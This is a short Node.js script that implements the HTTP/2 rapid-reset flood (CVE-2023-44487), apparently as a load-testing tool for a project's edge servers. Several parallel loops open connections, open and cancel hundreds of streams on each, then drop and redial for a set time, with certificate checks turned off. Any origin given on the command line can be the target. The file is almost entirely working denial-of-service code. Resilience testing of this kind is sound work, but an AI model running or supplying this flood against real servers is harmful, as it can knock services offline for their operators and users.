// A rapid-reset flood with reconnection, as an attacker sends it (CVE-2023-44487): each of
// `connections` loops opens an HTTP/2 connection, opens and cancels `streamsPerConnection` streams
// on it, drops it and connects again, for `seconds`. Run as its own process, so the client it is
// measured against does not share its event loop:
//
//   node scripts/edge/rapid-reset-flood.mjs <origin> [seconds] [connections] [streamsPerConnection]
//
// Prints one line of JSON: the streams opened and cancelled, the connections made, the seconds.
import http2 from 'node:http2';

/** Floods `origin` and resolves with what was sent. The certificate is not checked: an attacker's is not. */
export async function rapidResetFlood({
  origin,
  seconds = 5,
  connections = 4,
  streamsPerConnection = 200,
  path = '/',
}) {
  const until = Date.now() + seconds * 1000;
  let streams = 0;
  let sessions = 0;
  const oneConnection = () =>
    new Promise((resolve) => {
      const session = http2.connect(origin, { rejectUnauthorized: false });
      sessions += 1;
      session.on('error', () => undefined);
      session.once('close', resolve);
      session.once('connect', () => {
        for (let i = 0; i < streamsPerConnection && !session.closed && !session.destroyed; i += 1) {
          const stream = session.request({ ':path': path });
          stream.on('error', () => undefined);
          stream.close(http2.constants.NGHTTP2_CANCEL);
          streams += 1;
        }
        // Let the frames go out, then drop the connection and dial again.
        setImmediate(() => session.destroy());
      });
    });
  const loop = async () => {
    while (Date.now() < until) await oneConnection();
  };
  const started = Date.now();
  await Promise.all(Array.from({ length: connections }, loop));
  return { streams, sessions, seconds: (Date.now() - started) / 1000 };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const [origin, seconds, connections, streamsPerConnection] = process.argv.slice(2);
  const sent = await rapidResetFlood({
    origin,
    seconds: Number(seconds ?? 5),
    connections: Number(connections ?? 4),
    streamsPerConnection: Number(streamsPerConnection ?? 200),
  });
  console.log(JSON.stringify(sent));
}
